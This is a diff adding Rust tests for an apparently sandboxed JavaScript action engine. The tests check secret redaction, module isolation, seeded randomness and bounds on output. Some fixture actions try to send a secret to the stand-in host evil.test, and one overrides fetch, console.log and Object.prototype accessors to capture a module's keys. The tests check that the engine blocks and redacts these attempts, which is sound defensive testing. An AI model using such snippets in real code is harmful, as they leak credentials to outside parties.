@@ -902,3 +902,402 @@ exports.handler = async (event, api) => {
         assert_eq!(state(&outcome, "runs"), Some(json!(expected_runs)));
     }
 }
+
+// --- Secrets: every form, before anything shortens them -----------------------------------------
+
+/// Every string inside `outcome`, keys included.
+fn strings_of(outcome: &ActionOutcome) -> Vec<String> {
+    let mut found = Vec::new();
+    let mut pending = vec![serde_json::to_value(outcome).unwrap_or(Value::Null)];
+    while let Some(value) = pending.pop() {
+        match value {
+            Value::String(text) => found.push(text),
+            Value::Array(items) => pending.extend(items),
+            Value::Object(map) => {
+                for (key, item) in map {
+                    found.push(key);
+                    pending.push(item);
+                }
+            }
+            _ => {}
+        }
+    }
+    found
+}
+
+/// Asserts that no string of `outcome` holds `needle` in any ASCII case.
+fn assert_absent(outcome: &ActionOutcome, needle: &str) {
+    let needle = needle.to_ascii_lowercase();
+    for text in strings_of(outcome) {
+        assert!(
+            !text.to_ascii_lowercase().contains(&needle),
+            "{needle:?} leaked in {text:?}"
+        );
+    }
+}
+
+#[test]
+fn secrets_are_redacted_in_every_form_before_anything_shortens_them() {
+    let token = "tok\"en\\value-8f3k2";
+    let method = "patch-me-secret-31";
+    let level = "level-secret-0123456789-abcdefghijklmnopqrstuvwxyz-0123456789";
+    let in_url = "url-secret-4c8d1e2f";
+    let mut source = action(
+        "secret-forms",
+        r#"exports.handler = async (event, api) => {
+  const s = event.secrets;
+  try { await fetch('https://api.example.com/x', { method: s.METHOD }); } catch (e) {}
+  try { await fetch('https://evil.test/' + 'a'.repeat(180) + s.IN_URL); } catch (e) {}
+  api.log('info', { t: s.TOKEN });
+  api.log('info', JSON.stringify({ outer: JSON.stringify({ t: s.TOKEN }) }));
+  api.log('info', s.TOKEN.toUpperCase() + ' ' + encodeURIComponent(s.TOKEN));
+  api.state.set('nested', { [s.TOKEN]: [s.TOKEN] });
+  try { api.log(s.LEVEL, 'x'); } catch (e) { api.log('warn', e.message); }
+};"#,
+    );
+    source.secrets = BTreeMap::from([
+        ("TOKEN".to_owned(), token.to_owned()),
+        ("METHOD".to_owned(), method.to_owned()),
+        ("LEVEL".to_owned(), level.to_owned()),
+        ("IN_URL".to_owned(), in_url.to_owned()),
+    ]);
+    let fetch = FetchPolicy {
+        allow_prefixes: vec!["https://api.example.com/".to_owned()],
+        responses: BTreeMap::new(),
+    };
+    let outcome = run_with("tenant-a", &source, &us_user(), &tight_limits(), &fetch);
+    assert_eq!(outcome.fetches.len(), 2, "{:?}", outcome.fetches);
+    assert_eq!(outcome.fetches[0].method, "[redacted:METHOD]");
+    assert!(outcome.fetches[1].url.ends_with("[redacted:IN_URL]"));
+    // The refused fetch is the first breach; the unknown level is api misuse after it.
+    assert_limit(&outcome, LimitKind::FetchNotAllowed);
+    for secret in [token, method, level, in_url] {
+        assert_absent(&outcome, secret);
+        // No part of a secret survives a cut either (the level is quoted shortened).
+        assert_absent(&outcome, &secret[..12]);
+    }
+    // The escaped forms are gone as well as the raw one.
+    assert_absent(&outcome, "tok\\\"en");
+    assert_absent(&outcome, "tok%22en");
+    assert!(
+        outcome
+            .logs
+            .iter()
+            .all(|line| !line.message.contains("tok")),
+        "{:?}",
+        outcome.logs
+    );
+
+    // An object thrown with a secret in it, and the same as an unhandled rejection.
+    for (slug, body) in [
+        ("secret-thrown", "throw { t: event.secrets.TOKEN };"),
+        (
+            "secret-unhandled",
+            "Promise.reject(new Error(JSON.stringify({ t: event.secrets.TOKEN }))); await new Promise(() => {});",
+        ),
+    ] {
+        let mut source = action(
+            slug,
+            &format!("exports.handler = async (event, api) => {{ {body} }};"),
+        );
+        source.secrets = BTreeMap::from([("TOKEN".to_owned(), token.to_owned())]);
+        let outcome = run(&source, &us_user());
+        assert!(outcome.failure.is_some(), "{slug}");
+        assert_absent(&outcome, "tok\"en");
+        assert_absent(&outcome, "tok\\\"en");
+        assert_absent(&outcome, "tok\\\\\\\"en");
+    }
+}
+
+#[test]
+fn modules_reach_fetch_and_their_secrets_through_bindings_the_action_cannot_replace() {
+    let module = ModuleSource {
+        name: "svc".to_owned(),
+        version: "1".to_owned(),
+        file_name: "v1.js".to_owned(),
+        code: r#"module.exports = {
+  send: async () => {
+    const res = await fetch(actions.secrets.URL + '?k=' + actions.secrets.KEY, {
+      method: 'POST',
+      headers: { 'X-Key': actions.secrets.KEY },
+      body: 'k=' + actions.secrets.KEY,
+    });
+    console.log('sent with ' + actions.secrets.KEY);
+    return res.status;
+  },
+};"#
+        .to_owned(),
+        secrets: BTreeMap::from([
+            ("URL".to_owned(), "https://svc.example/ingest".to_owned()),
+            ("KEY".to_owned(), "module-key-9d7e".to_owned()),
+        ]),
+    };
+    // Everything the action manages to see is kept reversed, so redaction cannot hide a leak
+    // from this test.
+    let mut source = action(
+        "wraps-fetch",
+        r#"const svc = require('actions:svc');
+const seen = [];
+const steal = (value) => {
+  let text;
+  try { text = JSON.stringify(value); } catch (e) { text = String(value); }
+  seen.push(String(text).split('').reverse().join(''));
+};
+const realFetch = globalThis.fetch;
+try { globalThis.fetch = (...args) => { steal(args); return realFetch(...args); }; } catch (e) {}
+try { Object.defineProperty(globalThis, 'fetch', { value: (...args) => { steal(args); return realFetch(...args); } }); } catch (e) {}
+try { fetch = (...args) => { steal(args); return realFetch(...args); }; } catch (e) {}
+try { console.log = (...args) => steal(args); } catch (e) {}
+try { globalThis.console = { log: (...args) => steal(args) }; } catch (e) {}
+for (const name of ['then', 'url', 'method', 'body', 'headers']) {
+  Object.defineProperty(Object.prototype, name, {
+    get() { steal(this); return undefined; }, set(v) { steal(v); }, configurable: true,
+  });
+}
+exports.handler = async (event, api) => {
+  const status = await svc.send();
+  for (const name of ['then', 'url', 'method', 'body', 'headers']) delete Object.prototype[name];
+  api.state.set('status', status);
+  api.state.set('seen', seen);
+};"#,
+    );
+    source.modules.push(module);
+    let fetch = FetchPolicy {
+        allow_prefixes: vec!["https://svc.example/".to_owned()],
+        responses: BTreeMap::from([(
+            "https://svc.example/ingest?k=module-key-9d7e".to_owned(),
+            RecordedResponse {
+                status: 202,
+                headers: BTreeMap::new(),
+                body: String::new(),
+            },
+        )]),
+    };
+    let outcome = run_with("tenant-a", &source, &us_user(), &tight_limits(), &fetch);
+    assert_ok(&outcome);
+    assert_eq!(state(&outcome, "status"), Some(json!(202)));
+    let seen = state(&outcome, "seen").unwrap_or(Value::Null).to_string();
+    for secret in ["module-key-9d7e", "https://svc.example/ingest"] {
+        let reversed: String = secret.chars().rev().collect();
+        assert!(
+            !seen.contains(&reversed),
+            "the action saw the module's {secret}: {seen}"
+        );
+    }
+    assert_eq!(outcome.fetches.len(), 1);
+    assert_eq!(outcome.fetches[0].url, "[redacted:URL]?k=[redacted:KEY]");
+    assert_eq!(outcome.logs[0].message, "sent with [redacted:KEY]");
+}
+
+// --- Determinism ------------------------------------------------------------------------------
+
+#[test]
+fn math_random_is_seeded_per_run_from_the_event_and_clock() {
+    let code = "exports.handler = async (event, api) => { api.state.set('r', [Math.random(), Math.random(), Math.random()]); };";
+    let source = action("random", code);
+    let draws = |tenant: &str, event: &Value, clock_ms: i64| {
+        let outcome = engine().run(
+            tenant,
+            &source,
+            ActionInput {
+                event,
+                limits: &tight_limits(),
+                fetch: &FetchPolicy::default(),
+                clock_ms,
+            },
+        );
+        assert_ok(&outcome);
+        state(&outcome, "r").unwrap_or(Value::Null)
+    };
+    let first = draws("tenant-r1", &us_user(), 1);
+    // A warm runtime and another tenant's cold runtime draw the same numbers for the same run.
+    assert_eq!(draws("tenant-r1", &us_user(), 1), first);
+    assert_eq!(draws("tenant-r2", &us_user(), 1), first);
+    assert_ne!(draws("tenant-r1", &us_user(), 2), first);
+    assert_ne!(draws("tenant-r1", &json!({ "other": true }), 1), first);
+    let numbers: Vec<f64> = first
+        .as_array()
+        .map(|items| items.iter().filter_map(Value::as_f64).collect())
+        .unwrap_or_default();
+    assert_eq!(numbers.len(), 3);
+    assert!(
+        numbers.iter().all(|n| (0.0..1.0).contains(n)),
+        "{numbers:?}"
+    );
+    assert!(numbers[0] != numbers[1] && numbers[1] != numbers[2]);
+}
+
+// --- Bounds on everything a run hands back ----------------------------------------------------
+
+/// Asserts that `outcome` serialises (as traces store it) to fewer than `bytes`.
+fn assert_smaller_than(outcome: &ActionOutcome, bytes: usize, slug: &str) {
+    let size = serde_json::to_string(outcome).map_or(usize::MAX, |text| text.len());
+    assert!(size < bytes, "{slug}: the outcome is {size} bytes");
+}
+
+#[test]
+fn everything_a_run_hands_back_is_bounded() {
+    use authflow::js::{FAILURE_MESSAGE_BYTES, RECORDED_URL_BYTES};
+    // Twenty refused 4 MiB URLs, then a 4 MiB thrown message; enough CPU for the strings.
+    let limits = Limits {
+        cpu_ms: 10_000,
+        heap_bytes: 64 << 20,
+        ..tight_limits()
+    };
+    let outcome = run_with(
+        "tenant-a",
+        &action(
+            "bounded-fetch",
+            "exports.handler = async () => {
+const big = 'https://evil.test/' + 'x'.repeat(4 << 20);
+for (let i = 0; i < 20; i++) { try { await fetch(big); } catch (e) {} }
+throw new Error('m'.repeat(4 << 20));
+};",
+        ),
+        &us_user(),
+        &limits,
+        &FetchPolicy::default(),
+    );
+    assert_limit(&outcome, LimitKind::FetchNotAllowed);
+    assert_eq!(outcome.fetches.len(), Limits::default().fetch_count + 1);
+    for record in &outcome.fetches {
+        assert!(
+            record.url.len() <= RECORDED_URL_BYTES + 64,
+            "{}",
+            record.url.len()
+        );
+    }
+    assert_smaller_than(&outcome, 64 * 1024, "bounded-fetch");
+
+    for (slug, body) in [
+        ("bounded-throw", "throw new Error('m'.repeat(4 << 20));"),
+        ("bounded-value", "throw 'v'.repeat(4 << 20);"),
+        (
+            "bounded-unhandled",
+            "Promise.reject(new Error('u'.repeat(4 << 20))); await new Promise(() => {});",
+        ),
+        ("bounded-top", "throw new Error('t'.repeat(4 << 20));"),
+        (
+            "bounded-method",
+            "try { await fetch('https://evil.test/', { method: 'm'.repeat(4 << 20) }); } catch (e) {}",
+        ),
+        ("bounded-level", "api.log('l'.repeat(4 << 20), 'x');"),
+    ] {
+        let outcome = probe(slug, body);
+        let failure = outcome
+            .failure
+            .as_ref()
+            .unwrap_or_else(|| panic!("{slug}: no failure"));
+        assert!(
+            failure.message.len() <= FAILURE_MESSAGE_BYTES + 64,
+            "{slug}: a message of {} bytes",
+            failure.message.len()
+        );
+        assert_smaller_than(&outcome, 16 * 1024, slug);
+    }
+}
+
+#[test]
+fn no_budget_can_abort_the_engine() {
+    for heap_bytes in [0, 60_000, 1 << 20, usize::MAX] {
+        let limits = Limits {
+            heap_bytes,
+            cpu_ms: 0,
+            wall_ms: u64::MAX,
+            log_lines: usize::MAX,
+            ..tight_limits()
+        };
+        let outcome = run_with(
+            "tenant-a",
+            &action(
+                "tiny-heap",
+                "exports.handler = async (e, api) => { api.log('info', 'ran'); };",
+            ),
+            &us_user(),
+            &limits,
+            &FetchPolicy::default(),
+        );
+        // The budgets are clamped into their documented ranges: the run is judged, never
+        // aborted (a CPU budget of 0 becomes 1 ms, which a loaded machine may exceed).
+        assert!(
+            outcome.failure.is_none()
+                || failure_kind(&outcome) == Some(FailureKind::Limit(LimitKind::CpuTime)),
+            "heap_bytes {heap_bytes}: {:?}",
+            outcome.failure
+        );
+    }
+    for (field, value) in [
+        ("heap_bytes", json!(60_000)),
+        ("heap_bytes", json!(1_u64 << 40)),
+        ("cpu_ms", json!(0)),
+        ("wall_ms", json!(1_u64 << 40)),
+        ("log_bytes", json!(1_u64 << 40)),
+    ] {
+        let parsed = serde_json::from_value::<Limits>(json!({ field: value }));
+        let message = parsed.err().map(|e| e.to_string()).unwrap_or_default();
+        assert!(
+            message.contains(field),
+            "{field} = {value} was accepted ({message})"
+        );
+    }
+    let range = Limits::RANGES
+        .iter()
+        .find(|range| range.field == "heap_bytes")
+        .copied();
+    assert_eq!(range.map(|r| (r.min, r.max)), Some((8 << 20, 4 << 30)));
+}
+
+#[test]
+fn long_string_searches_and_sorts_give_the_native_results() {
+    // Sizes past the point where the engine drives the search or sort from script in short
+    // native steps (so a termination can stop it); the answers must be the native ones (the
+    // expected values are Node's for the same script).
+    let limits = Limits {
+        cpu_ms: 30_000,
+        wall_ms: 120_000,
+        ..tight_limits()
+    };
+    let code = r#"exports.handler = async (event, api) => {
+const h = 'ab'.repeat(2e5) + 'xyz' + 'ab'.repeat(10);
+const n = 'ab'.repeat(200) + 'x';
+api.state.set('search', [h.indexOf(n), h.lastIndexOf(n), h.includes(n), h.indexOf(n, 1e9),
+  h.lastIndexOf(n, -5), h.indexOf(n, 399601), h.lastIndexOf(n, 399599), new String(h).indexOf(n)]);
+api.state.set('split', [h.split(n).map((p) => p.length), h.split(n, 1).length, h.split(n, 0).length]);
+api.state.set('replace', [h.replace(n, '[$&|$`|$$|$1]').length, h.replace(n, (m, at, all) => `${m.length}@${at}/${all.length}`).slice(399600, 399620),
+  h.replaceAll(n, 'R').length, (h + n).replaceAll(n, () => 'R').slice(-3)]);
+api.state.set('lengths', [String.prototype.indexOf.length, String.prototype.split.length, Array.prototype.sort.length]);
+const numbers = Array.from({ length: 20000 }, (_, i) => 20000 - i);
+api.state.set('sort', [numbers.slice().sort().slice(0, 4), numbers.slice().sort((a, b) => a - b).slice(0, 2),
+  [...new Float64Array(Array.from({ length: 20000 }, (_, i) => [NaN, -0, 0, 3, -1][i % 5])).sort()].slice(3998, 4003).map((x) => Object.is(x, -0) ? '-0' : String(x)),
+  Array.from({ length: 20000 }, (_, i) => (i % 3 === 0 ? undefined : String(i % 7))).sort().slice(13330, 13336)]);
+try { h.includes(/x/); api.state.set('regexp', 'accepted'); } catch (e) { api.state.set('regexp', e.constructor.name); }
+};"#;
+    let outcome = run_with(
+        "tenant-a",
+        &action("guarded-natives", code),
+        &us_user(),
+        &limits,
+        &FetchPolicy::default(),
+    );
+    assert_ok(&outcome);
+    assert_eq!(
+        state(&outcome, "search"),
+        Some(json!([399600, 399600, true, -1, -1, -1, -1, 399600]))
+    );
+    assert_eq!(state(&outcome, "split"), Some(json!([[399600, 22], 1, 0])));
+    assert_eq!(
+        state(&outcome, "replace"),
+        Some(json!([799631, "401@399600/400023yza", 399623, "abR"]))
+    );
+    assert_eq!(state(&outcome, "lengths"), Some(json!([1, 2, 1])));
+    assert_eq!(
+        state(&outcome, "sort"),
+        Some(json!([
+            [1, 10, 100, 1000],
+            [1, 2],
+            ["-1", "-1", "-0", "-0", "-0"],
+            ["6", "6", "6", null, null, null]
+        ]))
+    );
+    assert_eq!(state(&outcome, "regexp"), Some(json!("TypeError")));
+}
